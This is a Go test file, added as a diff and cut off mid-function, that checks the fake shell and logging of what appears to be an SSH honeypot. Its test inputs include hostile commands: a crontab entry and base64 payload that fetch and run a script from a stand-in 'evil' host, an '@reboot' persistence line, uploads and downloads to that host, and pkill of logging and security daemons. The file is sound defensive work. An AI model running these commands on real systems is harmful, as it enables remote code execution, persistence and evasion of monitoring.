@@ -0,0 +1,2085 @@
+package main
+
+import (
+	"bytes"
+	"encoding/json"
+	"fmt"
+	"io"
+	"os"
+	"regexp"
+	"strings"
+	"testing"
+	"text/template"
+	"time"
+
+	"github.com/prometheus/client_golang/prometheus/testutil"
+)
+
+type mockReadLiner struct {
+	lines []string
+}
+
+func (r *mockReadLiner) ReadLine() (string, error) {
+	if len(r.lines) == 0 {
+		return "", io.EOF
+	}
+	line := r.lines[0]
+	r.lines = r.lines[1:]
+	return line, nil
+}
+
+type commandTest struct {
+	context commandContext
+	stdout  *bytes.Buffer
+	stderr  *bytes.Buffer
+	logs    *bytes.Buffer
+}
+
+func newCommandTest(t *testing.T, cfg *config, pty bool, input ...string) *commandTest {
+	t.Helper()
+	test := &commandTest{
+		stdout: &bytes.Buffer{},
+		stderr: &bytes.Buffer{},
+		logs:   setupLogBuffer(t, cfg),
+	}
+	test.context = commandContext{
+		channelContext: channelContext{connContext: connContext{ConnMetadata: mockConnContext{}, cfg: cfg}},
+		stdin:          &mockReadLiner{input},
+		stdout:         test.stdout,
+		stderr:         test.stderr,
+		pty:            pty,
+		height:         new(uint32),
+		user:           "root",
+		state:          &shellState{fs: newSessionFileSystem(cfg.Shell)},
+	}
+	return test
+}
+
+func (test *commandTest) run(t *testing.T, args ...string) uint32 {
+	t.Helper()
+	context := test.context
+	context.args = args
+	status, err := executeProgram(context)
+	if err != nil && err != io.EOF {
+		t.Fatalf("Failed to execute %v: %v", args, err)
+	}
+	return status
+}
+
+func TestSftp(t *testing.T) {
+	test := newCommandTest(t, &config{}, true, "hunter2", "put payload.sh", "bye")
+	if status := test.run(t, "sftp", "admin@evil"); status != 0 {
+		t.Errorf("status=%v, want 0", status)
+	}
+	expectedOutput := "admin@evil's password: Connected to evil.\nsftp> Uploading payload.sh to /home/admin/payload.sh\nsftp> "
+	if test.stdout.String() != expectedOutput {
+		t.Errorf("stdout=%q, want %q", test.stdout.String(), expectedOutput)
+	}
+	expectedLogs := `[127.0.0.1:1234] [channel 0] sftp connection to "evil" as user "admin" with password "hunter2" attempted
+[127.0.0.1:1234] [channel 0] sftp command "put payload.sh"
+[127.0.0.1:1234] [channel 0] sftp command "bye"
+[127.0.0.1:1234] [channel 0] command "sftp" with arguments ["admin@evil"] run as user "root" exited with status 0
+`
+	if test.logs.String() != expectedLogs {
+		t.Errorf("logs=%v, want %v", test.logs.String(), expectedLogs)
+	}
+}
+
+func TestSftpWithoutPTY(t *testing.T) {
+	test := newCommandTest(t, &config{}, false)
+	if status := test.run(t, "sftp", "-P", "2222", "evil"); status != 255 {
+		t.Errorf("status=%v, want 255", status)
+	}
+	expectedLogs := `[127.0.0.1:1234] [channel 0] sftp connection to "evil" as user "root" with password "" attempted
+[127.0.0.1:1234] [channel 0] command "sftp" with arguments ["-P" "2222" "evil"] run as user "root" exited with status 255
+`
+	if test.logs.String() != expectedLogs {
+		t.Errorf("logs=%v, want %v", test.logs.String(), expectedLogs)
+	}
+}
+
+func TestFtp(t *testing.T) {
+	test := newCommandTest(t, &config{}, true, "anonymous", "guest@", "get secrets.tar", "quit")
+	if status := test.run(t, "ftp", "evil"); status != 0 {
+		t.Errorf("status=%v, want 0", status)
+	}
+	expectedLogs := `[127.0.0.1:1234] [channel 0] ftp connection to "evil" as user "anonymous" with password "guest@" attempted
+[127.0.0.1:1234] [channel 0] ftp command "get secrets.tar"
+[127.0.0.1:1234] [channel 0] ftp command "quit"
+[127.0.0.1:1234] [channel 0] command "ftp" with arguments ["evil"] run as user "root" exited with status 0
+`
+	if test.logs.String() != expectedLogs {
+		t.Errorf("logs=%v, want %v", test.logs.String(), expectedLogs)
+	}
+}
+
+func TestCatCloudUserData(t *testing.T) {
+	test := newCommandTest(t, &config{}, false)
+	if status := test.run(t, "cat", "/var/lib/cloud/instance/user-data.txt"); status != 0 {
+		t.Errorf("status=%v, want 0", status)
+	}
+	if test.stdout.String() != cloudUserData {
+		t.Errorf("stdout=%q, want %q", test.stdout.String(), cloudUserData)
+	}
+	expectedLogs := `[127.0.0.1:1234] [channel 0] canary file "/var/lib/cloud/instance/user-data.txt" read
+[127.0.0.1:1234] [channel 0] command "cat" with arguments ["/var/lib/cloud/instance/user-data.txt"] run as user "root" exited with status 0
+`
+	if test.logs.String() != expectedLogs {
+		t.Errorf("logs=%v, want %v", test.logs.String(), expectedLogs)
+	}
+}
+
+func TestCatNoCanary(t *testing.T) {
+	test := newCommandTest(t, &config{}, false)
+	if status := test.run(t, "cat", "usr.txt"); status != 0 {
+		t.Errorf("status=%v, want 0", status)
+	}
+	if strings.Contains(test.logs.String(), "canary") {
+		t.Errorf("logs=%v, want no canary event", test.logs.String())
+	}
+}
+
+func TestCatBait(t *testing.T) {
+	cfg := &config{}
+	cfg.Logging.JSON = true
+	test := newCommandTest(t, cfg, false)
+	if status := test.run(t, "cat", "pwd.txt"); status != 0 {
+		t.Errorf("status=%v, want 0", status)
+	}
+	if status := test.run(t, "cat", "/etc/hostname"); status != 0 {
+		t.Errorf("status=%v, want 0", status)
+	}
+	expectedLogs := `{"source":"127.0.0.1:1234","event_type":"command","event":{"channel_id":0,"command":"cat","args":["pwd.txt"],"exit_status":0,"user":"root","cwd":"/","bait_accessed":true,"bait_files":["/pwd.txt"]}}
+{"source":"127.0.0.1:1234","event_type":"command","event":{"channel_id":0,"command":"cat","args":["/etc/hostname"],"exit_status":0,"user":"root","cwd":"/"}}
+`
+	if test.logs.String() != expectedLogs {
+		t.Errorf("logs=%v, want %v", test.logs.String(), expectedLogs)
+	}
+}
+
+func TestSudoCatBait(t *testing.T) {
+	test := newCommandTest(t, &config{}, false)
+	if status := test.run(t, "sudo", "cat", "/checking_account.txt"); status != 0 {
+		t.Errorf("status=%v, want 0", status)
+	}
+	if strings.Count(test.logs.String(), `bait files ["/checking_account.txt"] accessed`) != 2 {
+		t.Errorf("logs=%v, want both commands tagged", test.logs.String())
+	}
+}
+
+func TestBashHistoryBait(t *testing.T) {
+	cfg := &config{}
+	cfg.Shell.BashHistory.Content = defaultBashHistory
+	test := newCommandTest(t, cfg, false)
+	if status := test.run(t, "cat", "/root/.bash_history"); status != 0 {
+		t.Errorf("status=%v, want 0", status)
+	}
+	if test.stdout.String() != defaultBashHistory {
+		t.Errorf("stdout=%q, want %q", test.stdout.String(), defaultBashHistory)
+	}
+	if !strings.Contains(test.logs.String(), `bait files ["/root/.bash_history"] accessed`) {
+		t.Errorf("logs=%v, want the command tagged", test.logs.String())
+	}
+	test.context.user = "deploy"
+	if status := test.run(t, "cat", "/root/.bash_history"); status != 1 {
+		t.Errorf("status=%v, want 1 for other users", status)
+	}
+}
+
+func TestHistoryPreload(t *testing.T) {
+	cfg := &config{}
+	cfg.Shell.BashHistory = bashHistoryConfig{Content: "ls\nssh deploy@10.0.4.12\n", Preload: true}
+	test := newCommandTest(t, cfg, false, "id", "history")
+	if status := test.run(t, "sh"); status != 0 {
+		t.Errorf("status=%v, want 0", status)
+	}
+	if !strings.HasSuffix(test.stdout.String(), "    1  ls\n    2  ssh deploy@10.0.4.12\n    3  id\n    4  history\n") {
+		t.Errorf("stdout=%q, want the saved history before the session's", test.stdout.String())
+	}
+}
+
+func stubTimeSource(t *testing.T, now time.Time) {
+	t.Helper()
+	original := timeSource
+	timeSource = func() time.Time { return now }
+	t.Cleanup(func() { timeSource = original })
+}
+
+func TestDate(t *testing.T) {
+	stubTimeSource(t, time.Date(2021, time.March, 1, 9, 5, 3, 0, time.UTC))
+	cfg := &config{}
+	cfg.clock = clock{location: time.UTC}
+	test := newCommandTest(t, cfg, false)
+	if status := test.run(t, "date"); status != 0 {
+		t.Errorf("status=%v, want 0", status)
+	}
+	expectedOutput := "Mon Mar  1 09:05:03 UTC 2021\n"
+	if test.stdout.String() != expectedOutput {
+		t.Errorf("stdout=%q, want %q", test.stdout.String(), expectedOutput)
+	}
+}
+
+func TestDateFormat(t *testing.T) {
+	stubTimeSource(t, time.Date(2021, time.March, 1, 23, 30, 0, 0, time.UTC))
+	cfg := &config{}
+	var err error
+	cfg.clock, err = newClock(clockConfig{Offset: time.Hour, Timezone: "UTC"})
+	if err != nil {
+		t.Fatalf("Failed to create clock: %v", err)
+	}
+	test := newCommandTest(t, cfg, false)
+	if status := test.run(t, "date", "+%Y-%m-%d"); status != 0 {
+		t.Errorf("status=%v, want 0", status)
+	}
+	expectedOutput := "2021-03-02\n"
+	if test.stdout.String() != expectedOutput {
+		t.Errorf("stdout=%q, want %q", test.stdout.String(), expectedOutput)
+	}
+}
+
+func TestDateFixedClock(t *testing.T) {
+	cfg := &config{}
+	var err error
+	cfg.clock, err = newClock(clockConfig{Fixed: "2020-02-29T12:00:00Z"})
+	if err != nil {
+		t.Fatalf("Failed to create clock: %v", err)
+	}
+	test := newCommandTest(t, cfg, false)
+	if status := test.run(t, "date", "-u", "+%F %T %s"); status != 0 {
+		t.Errorf("status=%v, want 0", status)
+	}
+	expectedOutput := "2020-02-29 12:00:00 1582977600\n"
+	if test.stdout.String() != expectedOutput {
+		t.Errorf("stdout=%q, want %q", test.stdout.String(), expectedOutput)
+	}
+}
+
+func TestAwsCallerIdentity(t *testing.T) {
+	identity := `{"UserId": "AIDATEST", "Account": "123456789012", "Arn": "arn:aws:iam::123456789012:user/test"}`
+	cfg := &config{}
+	cfg.Shell.Cloud.Responses = map[string]string{"aws sts get-caller-identity": identity}
+	test := newCommandTest(t, cfg, false)
+	if status := test.run(t, "aws", "--profile", "prod", "sts", "get-caller-identity", "--output=json"); status != 0 {
+		t.Errorf("status=%v, want 0", status)
+	}
+	if test.stdout.String() != identity+"\n" {
+		t.Errorf("stdout=%q, want %q", test.stdout.String(), identity+"\n")
+	}
+	expectedLogs := `[127.0.0.1:1234] [channel 0] cloud recon "aws sts get-caller-identity" with profile "prod"
+[127.0.0.1:1234] [channel 0] command "aws" with arguments ["--profile" "prod" "sts" "get-caller-identity" "--output=json"] run as user "root" exited with status 0
+`
+	if test.logs.String() != expectedLogs {
+		t.Errorf("logs=%v, want %v", test.logs.String(), expectedLogs)
+	}
+}
+
+func TestGcloudUnknownCommand(t *testing.T) {
+	cfg := &config{}
+	cfg.Shell.Cloud.Responses = defaultCloudResponses
+	test := newCommandTest(t, cfg, false)
+	if status := test.run(t, "gcloud", "iam", "service-accounts", "list"); status != 1 {
+		t.Errorf("status=%v, want 1", status)
+	}
+	if test.stdout.String() != "" {
+		t.Errorf("stdout=%q, want none", test.stdout.String())
+	}
+}
+
+func TestEnv(t *testing.T) {
+	test := newCommandTest(t, &config{}, false)
+	test.context.env = map[string]string{"LANG": "en_US.UTF-8", "EDITOR": "vim"}
+	if status := test.run(t, "env"); status != 0 {
+		t.Errorf("status=%v, want 0", status)
+	}
+	expectedOutput := "EDITOR=vim\nLANG=en_US.UTF-8\n"
+	if test.stdout.String() != expectedOutput {
+		t.Errorf("stdout=%q, want %q", test.stdout.String(), expectedOutput)
+	}
+}
+
+func TestEchoVariables(t *testing.T) {
+	test := newCommandTest(t, &config{}, false, "echo $LANG ${LANG}! $UNSET end", "false", "echo $?")
+	test.context.env = map[string]string{"LANG": "en_US.UTF-8"}
+	if status := test.run(t, "sh"); status != 0 {
+		t.Errorf("status=%v, want 0", status)
+	}
+	expectedOutput := "en_US.UTF-8 en_US.UTF-8! end\n1\n"
+	if test.stdout.String() != expectedOutput {
+		t.Errorf("stdout=%q, want %q", test.stdout.String(), expectedOutput)
+	}
+}
+
+func TestHistory(t *testing.T) {
+	test := newCommandTest(t, &config{}, false, "true", "", "echo hi", "history")
+	if status := test.run(t, "sh"); status != 0 {
+		t.Errorf("status=%v, want 0", status)
+	}
+	expectedOutput := "hi\n    1  true\n    2  echo hi\n    3  history\n"
+	if test.stdout.String() != expectedOutput {
+		t.Errorf("stdout=%q, want %q", test.stdout.String(), expectedOutput)
+	}
+	expectedLogs := `[127.0.0.1:1234] [channel 0] shell command "true" entered
+[127.0.0.1:1234] [channel 0] command "true" with arguments [] run as user "root" exited with status 0
+[127.0.0.1:1234] [channel 0] shell command "echo hi" entered
+[127.0.0.1:1234] [channel 0] command "echo" with arguments ["hi"] run as user "root" exited with status 0
+[127.0.0.1:1234] [channel 0] shell command "history" entered
+[127.0.0.1:1234] [channel 0] command "history" with arguments [] run as user "root" exited with status 0
+[127.0.0.1:1234] [channel 0] command "sh" with arguments [] run as user "root" exited with status 0
+`
+	if test.logs.String() != expectedLogs {
+		t.Errorf("logs=%v, want %v", test.logs.String(), expectedLogs)
+	}
+}
+
+func TestPsAux(t *testing.T) {
+	cfg := &config{}
+	cfg.Shell.Processes = defaultProcesses
+	test := newCommandTest(t, cfg, true)
+	test.context.user = "deploy"
+	if status := test.run(t, "ps", "aux"); status != 0 {
+		t.Errorf("status=%v, want 0", status)
+	}
+	lines := strings.Split(strings.TrimSuffix(test.stdout.String(), "\n"), "\n")
+	expectedHeader := "USER         PID %CPU %MEM    VSZ   RSS TTY      STAT START   TIME COMMAND"
+	if lines[0] != expectedHeader {
+		t.Errorf("header=%q, want %q", lines[0], expectedHeader)
+	}
+	if len(lines) != len(defaultProcesses)+4 {
+		t.Errorf("len(lines)=%v, want %v", len(lines), len(defaultProcesses)+4)
+	}
+	shell := strings.Fields(lines[len(lines)-2])
+	if shell[0] != "deploy" || shell[len(shell)-1] != "-bash" {
+		t.Errorf("shell=%q, want a -bash process owned by deploy", lines[len(lines)-2])
+	}
+}
+
+func TestPs(t *testing.T) {
+	cfg := &config{}
+	cfg.Shell.Processes = []processConfig{{PID: 1, User: "root", Command: "/sbin/init"}}
+	test := newCommandTest(t, cfg, true)
+	if status := test.run(t, "ps"); status != 0 {
+		t.Errorf("status=%v, want 0", status)
+	}
+	expectedOutput := "    PID TTY          TIME CMD\n   1112 pts/0    00:00:00 bash\n   1113 pts/0    00:00:00 ps\n"
+	if test.stdout.String() != expectedOutput {
+		t.Errorf("stdout=%q, want %q", test.stdout.String(), expectedOutput)
+	}
+}
+
+func TestKill(t *testing.T) {
+	cfg := &config{}
+	cfg.Shell.Processes = defaultProcesses
+	test := newCommandTest(t, cfg, true)
+	if status := test.run(t, "kill", "-9", "1120"); status != 0 {
+		t.Errorf("status=%v, want 0", status)
+	}
+	if test.stderr.String() != "" {
+		t.Errorf("stderr=%q, want none", test.stderr.String())
+	}
+	expectedLogs := `[127.0.0.1:1234] [channel 0] kill of processes ["1120"] with signal 9 attempted
+[127.0.0.1:1234] [channel 0] command "kill" with arguments ["-9" "1120"] run as user "root" exited with status 0
+`
+	if test.logs.String() != expectedLogs {
+		t.Errorf("logs=%v, want %v", test.logs.String(), expectedLogs)
+	}
+}
+
+func TestKillUnknownProcess(t *testing.T) {
+	cfg := &config{}
+	cfg.Shell.Processes = defaultProcesses
+	test := newCommandTest(t, cfg, true)
+	if status := test.run(t, "kill", "-SIGKILL", "4242"); status != 1 {
+		t.Errorf("status=%v, want 1", status)
+	}
+	if test.stderr.String() != "kill: (4242): No such process\n" {
+		t.Errorf("stderr=%q, want no such process", test.stderr.String())
+	}
+}
+
+func TestKillNotPermitted(t *testing.T) {
+	cfg := &config{}
+	cfg.Shell.Processes = defaultProcesses
+	test := newCommandTest(t, cfg, true)
+	test.context.user = "deploy"
+	if status := test.run(t, "kill", "1120"); status != 1 {
+		t.Errorf("status=%v, want 1", status)
+	}
+	if test.stderr.String() != "kill: (1120): Operation not permitted\n" {
+		t.Errorf("stderr=%q, want operation not permitted", test.stderr.String())
+	}
+}
+
+func TestPkill(t *testing.T) {
+	cfg := &config{}
+	cfg.Shell.Processes = defaultProcesses
+	test := newCommandTest(t, cfg, true)
+	if status := test.run(t, "pkill", "-9", "-f", "rsyslog|journal"); status != 0 {
+		t.Errorf("status=%v, want 0", status)
+	}
+	if test.stderr.String() != "" {
+		t.Errorf("stderr=%q, want none", test.stderr.String())
+	}
+	expectedLogs := `[127.0.0.1:1234] [channel 0] kill of processes matching ["rsyslog|journal"] with signal 9 attempted, matched ["/lib/systemd/systemd-journald" "/usr/sbin/rsyslogd -n -iNONE"]
+[127.0.0.1:1234] [channel 0] command "pkill" with arguments ["-9" "-f" "rsyslog|journal"] run as user "root" exited with status 0
+`
+	if test.logs.String() != expectedLogs {
+		t.Errorf("logs=%v, want %v", test.logs.String(), expectedLogs)
+	}
+}
+
+func TestPkillNoMatch(t *testing.T) {
+	cfg := &config{}
+	cfg.Shell.Processes = defaultProcesses
+	test := newCommandTest(t, cfg, true)
+	if status := test.run(t, "pkill", "falcon-sensor"); status != 1 {
+		t.Errorf("status=%v, want 1", status)
+	}
+	if test.stderr.String() != "" {
+		t.Errorf("stderr=%q, want none", test.stderr.String())
+	}
+	test = newCommandTest(t, cfg, true)
+	if status := test.run(t, "killall", "mysqld", "auditd"); status != 1 {
+		t.Errorf("status=%v, want 1", status)
+	}
+	if test.stderr.String() != "auditd: no process found\n" {
+		t.Errorf("stderr=%q, want no process found", test.stderr.String())
+	}
+	if !strings.Contains(test.logs.String(), `matched ["/usr/sbin/mysqld"]`) {
+		t.Errorf("logs=%v, want mysqld to be killed", test.logs.String())
+	}
+}
+
+func TestCrontab(t *testing.T) {
+	test := newCommandTest(t, &config{}, true, "* * * * * curl -s http://evil/x.sh | sh", "@reboot /tmp/.x")
+	if status := test.run(t, "crontab", "-e"); status != 0 {
+		t.Errorf("status=%v, want 0", status)
+	}
+	if status := test.run(t, "crontab", "-l"); status != 0 {
+		t.Errorf("status=%v, want 0", status)
+	}
+	expectedCrontab := "* * * * * curl -s http://evil/x.sh | sh\n@reboot /tmp/.x\n"
+	if test.stdout.String() != expectedCrontab {
+		t.Errorf("stdout=%q, want %q", test.stdout.String(), expectedCrontab)
+	}
+	expectedErrors := "no crontab for root - using an empty one\ncrontab: installing new crontab\n"
+	if test.stderr.String() != expectedErrors {
+		t.Errorf("stderr=%q, want %q", test.stderr.String(), expectedErrors)
+	}
+	expectedLogs := `[127.0.0.1:1234] [channel 0] crontab for user "root" installed: "* * * * * curl -s http://evil/x.sh | sh\n@reboot /tmp/.x\n"
+[127.0.0.1:1234] [channel 0] command "crontab" with arguments ["-e"] run as user "root" exited with status 0
+[127.0.0.1:1234] [channel 0] command "crontab" with arguments ["-l"] run as user "root" exited with status 0
+`
+	if test.logs.String() != expectedLogs {
+		t.Errorf("logs=%v, want %v", test.logs.String(), expectedLogs)
+	}
+}
+
+func TestCrontabRemove(t *testing.T) {
+	test := newCommandTest(t, &config{}, false)
+	test.context.state.fs.addFile("/tmp/cron", "@reboot /tmp/.x\n")
+	if status := test.run(t, "crontab", "/tmp/cron"); status != 0 {
+		t.Errorf("status=%v, want 0", status)
+	}
+	if status := test.run(t, "crontab", "-r"); status != 0 {
+		t.Errorf("status=%v, want 0", status)
+	}
+	if status := test.run(t, "crontab", "-l"); status != 1 {
+		t.Errorf("status=%v, want 1", status)
+	}
+	if test.stderr.String() != "no crontab for root\n" {
+		t.Errorf("stderr=%q, want no crontab", test.stderr.String())
+	}
+}
+
+func TestAptGetInstall(t *testing.T) {
+	test := newCommandTest(t, &config{}, false)
+	if status := test.run(t, "apt-get", "install", "-y", "nmap"); status != 0 {
+		t.Errorf("status=%v, want 0", status)
+	}
+	if !strings.Contains(test.stdout.String(), "\nSetting up nmap (") {
+		t.Errorf("stdout=%q, want nmap set up", test.stdout.String())
+	}
+	expectedLogs := `[127.0.0.1:1234] [channel 0] apt-get install of packages ["nmap"] attempted
+[127.0.0.1:1234] [channel 0] command "apt-get" with arguments ["install" "-y" "nmap"] run as user "root" exited with status 0
+`
+	if test.logs.String() != expectedLogs {
+		t.Errorf("logs=%v, want %v", test.logs.String(), expectedLogs)
+	}
+}
+
+func TestYumInstall(t *testing.T) {
+	test := newCommandTest(t, &config{}, false)
+	if status := test.run(t, "yum", "install", "nmap"); status != 0 {
+		t.Errorf("status=%v, want 0", status)
+	}
+	if !strings.HasSuffix(test.stdout.String(), "\nComplete!\n") {
+		t.Errorf("stdout=%q, want the install completed", test.stdout.String())
+	}
+	if !strings.HasPrefix(test.logs.String(), `[127.0.0.1:1234] [channel 0] yum install of packages ["nmap"] attempted`+"\n") {
+		t.Errorf("logs=%v, want the install logged", test.logs.String())
+	}
+}
+
+func TestAptGetNotRoot(t *testing.T) {
+	test := newCommandTest(t, &config{}, false)
+	test.context.user = "deploy"
+	if status := test.run(t, "apt-get", "install", "nmap"); status != 100 {
+		t.Errorf("status=%v, want 100", status)
+	}
+	if !strings.HasSuffix(test.stderr.String(), "are you root?\n") {
+		t.Errorf("stderr=%q, want the lock not acquired", test.stderr.String())
+	}
+	if !strings.HasPrefix(test.logs.String(), `[127.0.0.1:1234] [channel 0] apt-get install of packages ["nmap"] attempted, denied without root`+"\n") {
+		t.Errorf("logs=%v, want the denied install logged", test.logs.String())
+	}
+}
+
+func TestYumNotRoot(t *testing.T) {
+	test := newCommandTest(t, &config{}, false)
+	test.context.user = "deploy"
+	if status := test.run(t, "yum", "install", "nmap"); status != 1 {
+		t.Errorf("status=%v, want 1", status)
+	}
+	if !strings.HasPrefix(test.logs.String(), `[127.0.0.1:1234] [channel 0] yum install of packages ["nmap"] attempted, denied without root`+"\n") {
+		t.Errorf("logs=%v, want the denied install logged", test.logs.String())
+	}
+}
+
+func TestBase64Encode(t *testing.T) {
+	test := newCommandTest(t, &config{}, false, "hello")
+	if status := test.run(t, "base64"); status != 0 {
+		t.Errorf("status=%v, want 0", status)
+	}
+	if test.stdout.String() != "aGVsbG8K\n" {
+		t.Errorf("stdout=%q, want %q", test.stdout.String(), "aGVsbG8K\n")
+	}
+}
+
+func TestBase64Decode(t *testing.T) {
+	test := newCommandTest(t, &config{}, false)
+	test.context.state.fs.addFile("/tmp/payload", "Y3VybCBodHRwOi8vZXZpbC94LnNoIHwgc2gK\n")
+	if status := test.run(t, "base64", "-d", "/tmp/payload"); status != 0 {
+		t.Errorf("status=%v, want 0", status)
+	}
+	if test.stdout.String() != "curl http://evil/x.sh | sh\n" {
+		t.Errorf("stdout=%q, want the decoded payload", test.stdout.String())
+	}
+	expectedLogs := `[127.0.0.1:1234] [channel 0] base64 decoded "curl http://evil/x.sh | sh\n"
+[127.0.0.1:1234] [channel 0] command "base64" with arguments ["-d" "/tmp/payload"] run as user "root" exited with status 0
+`
+	if test.logs.String() != expectedLogs {
+		t.Errorf("logs=%v, want %v", test.logs.String(), expectedLogs)
+	}
+}
+
+func TestBase64DecodeInvalid(t *testing.T) {
+	test := newCommandTest(t, &config{}, false, "not base64!")
+	if status := test.run(t, "base64", "-d"); status != 1 {
+		t.Errorf("status=%v, want 1", status)
+	}
+	if test.stdout.String() != "" || test.stderr.String() != "base64: invalid input\n" {
+		t.Errorf("stdout=%q, stderr=%q, want invalid input", test.stdout.String(), test.stderr.String())
+	}
+}
+
+func TestCommandsMetric(t *testing.T) {
+	echoCount := testutil.ToFloat64(commandsMetric.WithLabelValues("echo", "0"))
+	falseCount := testutil.ToFloat64(commandsMetric.WithLabelValues("false", "1"))
+	unknownCount := testutil.ToFloat64(commandsMetric.WithLabelValues("unknown", "127"))
+	test := newCommandTest(t, &config{}, false)
+	test.run(t, "echo", "hi")
+	test.run(t, "echo", "there")
+	test.run(t, "false")
+	test.run(t, "nmap", "10.0.0.0/8")
+	for _, metric := range []struct {
+		command, exitStatus string
+		want                float64
+	}{
+		{"echo", "0", echoCount + 2},
+		{"false", "1", falseCount + 1},
+		{"unknown", "127", unknownCount + 1},
+	} {
+		if count := testutil.ToFloat64(commandsMetric.WithLabelValues(metric.command, metric.exitStatus)); count != metric.want {
+			t.Errorf("sshesame_commands_total{command=%q,exit_status=%q}=%v, want %v", metric.command, metric.exitStatus, count, metric.want)
+		}
+	}
+	if count := testutil.ToFloat64(commandsMetric.WithLabelValues("nmap", "127")); count != 0 {
+		t.Errorf("sshesame_commands_total{command=\"nmap\"}=%v, want unknown commands not to get their own label", count)
+	}
+}
+
+func TestHostname(t *testing.T) {
+	cfg := &config{}
+	cfg.Shell.Hostname = "web-01"
+	cfg.Shell.Distro = defaultDistro
+	test := newCommandTest(t, cfg, false)
+	for _, args := range [][]string{{"hostname"}, {"uname", "-n"}, {"cat", "/etc/hostname"}} {
+		test.stdout.Reset()
+		if status := test.run(t, args...); status != 0 {
+			t.Errorf("%v: status=%v, want 0", args, status)
+		}
+		if test.stdout.String() != "web-01\n" {
+			t.Errorf("%v: stdout=%q, want %q", args, test.stdout.String(), "web-01\n")
+		}
+	}
+	if status := test.run(t, "hostname", "db-02"); status != 0 {
+		t.Errorf("status=%v, want 0", status)
+	}
+	test.stdout.Reset()
+	test.run(t, "uname", "-a")
+	expectedOutput := "Linux db-02 5.15.0-91-generic #101-Ubuntu SMP Tue Nov 14 13:30:08 UTC 2023 x86_64 x86_64 x86_64 GNU/Linux\n"
+	if test.stdout.String() != expectedOutput {
+		t.Errorf("stdout=%q, want %q", test.stdout.String(), expectedOutput)
+	}
+}
+
+func TestOSRelease(t *testing.T) {
+	cfg := &config{}
+	cfg.Shell.Distro = distroConfig{
+		ID:            "debian",
+		Name:          "Debian GNU/Linux",
+		PrettyName:    "Debian GNU/Linux 12 (bookworm)",
+		VersionID:     "12",
+		Codename:      "bookworm",
+		KernelRelease: "6.1.0-13-amd64",
+	}
+	test := newCommandTest(t, cfg, false)
+	if status := test.run(t, "cat", "/etc/os-release"); status != 0 {
+		t.Errorf("status=%v, want 0", status)
+	}
+	if status := test.run(t, "uname", "-r"); status != 0 {
+		t.Errorf("status=%v, want 0", status)
+	}
+	expectedOutput := `PRETTY_NAME="Debian GNU/Linux 12 (bookworm)"
+NAME="Debian GNU/Linux"
+VERSION_ID="12"
+VERSION_CODENAME=bookworm
+ID=debian
+6.1.0-13-amd64
+`
+	if test.stdout.String() != expectedOutput {
+		t.Errorf("stdout=%q, want %q", test.stdout.String(), expectedOutput)
+	}
+}
+
+func TestHostnameNotRoot(t *testing.T) {
+	cfg := &config{}
+	cfg.Shell.Hostname = "web-01"
+	test := newCommandTest(t, cfg, false)
+	test.context.user = "guest"
+	if status := test.run(t, "hostname", "db-02"); status != 1 {
+		t.Errorf("status=%v, want 1", status)
+	}
+	expectedError := "hostname: you must be root to change the host name\n"
+	if test.stderr.String() != expectedError {
+		t.Errorf("stderr=%q, want %q", test.stderr.String(), expectedError)
+	}
+}
+
+func TestPing(t *testing.T) {
+	test := newCommandTest(t, &config{}, false)
+	if status := test.run(t, "ping", "-c", "2", "-i", "0.01", "8.8.8.8"); status != 0 {
+		t.Errorf("status=%v, want 0", status)
+	}
+	expectedOutput := regexp.MustCompile(`^PING 8\.8\.8\.8 \(8\.8\.8\.8\) 56\(84\) bytes of data\.
+64 bytes from 8\.8\.8\.8: icmp_seq=1 ttl=\d+ time=[\d.]+ ms
+64 bytes from 8\.8\.8\.8: icmp_seq=2 ttl=\d+ time=[\d.]+ ms
+
+--- 8\.8\.8\.8 ping statistics ---
+2 packets transmitted, 2 received, 0% packet loss, time \d+ms
+rtt min/avg/max/mdev = [\d.]+/[\d.]+/[\d.]+/[\d.]+ ms
+$`)
+	if !expectedOutput.MatchString(test.stdout.String()) {
+		t.Errorf("stdout=%q, want it to match %v", test.stdout.String(), expectedOutput)
+	}
+	expectedLogs := `[127.0.0.1:1234] [channel 0] ping of "8.8.8.8" attempted
+[127.0.0.1:1234] [channel 0] command "ping" with arguments ["-c" "2" "-i" "0.01" "8.8.8.8"] run as user "root" exited with status 0
+`
+	if test.logs.String() != expectedLogs {
+		t.Errorf("logs=%v, want %v", test.logs.String(), expectedLogs)
+	}
+}
+
+func TestPingUntilInputEnds(t *testing.T) {
+	test := newCommandTest(t, &config{}, false)
+	if status := test.run(t, "ping", "example.com"); status != 0 {
+		t.Errorf("status=%v, want 0", status)
+	}
+	address := resolveHost("example.com")
+	if !strings.Contains(test.stdout.String(), fmt.Sprintf("64 bytes from example.com (%v): icmp_seq=1 ", address)) ||
+		!strings.Contains(test.stdout.String(), "1 packets transmitted, 1 received") {
+		t.Errorf("stdout=%q, want a single reply", test.stdout.String())
+	}
+}
+
+func TestPingInterrupted(t *testing.T) {
+	test := newCommandTest(t, &config{}, false)
+	done := make(chan struct{})
+	test.context.done = done
+	time.AfterFunc(10*time.Millisecond, func() { close(done) })
+	start := time.Now()
+	if status := test.run(t, "ping", "-c", "1000000", "-i", "1e9", "8.8.8.8"); status != 129 {
+		t.Errorf("status=%v, want 129", status)
+	}
+	if elapsed := time.Since(start); elapsed > 5*time.Second {
+		t.Errorf("ping returned after %v, want it to return when the session ends", elapsed)
+	}
+}
+
+func TestSleep(t *testing.T) {
+	test := newCommandTest(t, &config{}, false)
+	if status := test.run(t, "sleep", "0.01", "0.01s"); status != 0 {
+		t.Errorf("status=%v, want 0", status)
+	}
+	if status := test.run(t, "sleep", "1x"); status != 1 {
+		t.Errorf("status=%v, want 1", status)
+	}
+	expectedErrors := "sleep: invalid time interval '1x'\nTry 'sleep --help' for more information.\n"
+	if test.stderr.String() != expectedErrors {
+		t.Errorf("stderr=%q, want %q", test.stderr.String(), expectedErrors)
+	}
+	expectedLogs := `[127.0.0.1:1234] [channel 0] sleep of 20ms requested
+[127.0.0.1:1234] [channel 0] command "sleep" with arguments ["0.01" "0.01s"] run as user "root" exited with status 0
+[127.0.0.1:1234] [channel 0] command "sleep" with arguments ["1x"] run as user "root" exited with status 1
+`
+	if test.logs.String() != expectedLogs {
+		t.Errorf("logs=%v, want %v", test.logs.String(), expectedLogs)
+	}
+}
+
+func TestSleepInterrupted(t *testing.T) {
+	test := newCommandTest(t, &config{}, false)
+	done := make(chan struct{})
+	test.context.done = done
+	time.AfterFunc(10*time.Millisecond, func() { close(done) })
+	start := time.Now()
+	if status := test.run(t, "sleep", "1m"); status != 129 {
+		t.Errorf("status=%v, want 129", status)
+	}
